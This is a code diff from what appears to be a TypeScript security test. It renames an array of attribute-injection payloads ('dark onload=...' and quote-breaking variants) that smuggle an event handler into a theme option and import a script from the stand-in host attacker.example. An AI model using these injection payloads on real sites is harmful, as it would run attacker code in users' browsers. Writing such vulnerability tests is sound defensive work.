@@ -30,7 +30,7 @@ export async function works(code: Code) {
 }
 
 const script = 'import(`//attacker.example/v.js`)'
-const attacks = [
+const forms = [
   `dark onload=${script}`,
   `dark\tonload=${script}`,
   `dark onpageshow=${script}`,
@@ -38,7 +38,7 @@ const attacks = [
   `dark" onload="${script}`,
 ]
 
-export async function exploit(code: Code, _vary?: unknown, payloads = attacks): Promise<boolean> {
+export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
   for (const theme of payloads) if (scriptsOf(await open(code, { theme })).includes(script)) return true
   return false
 }
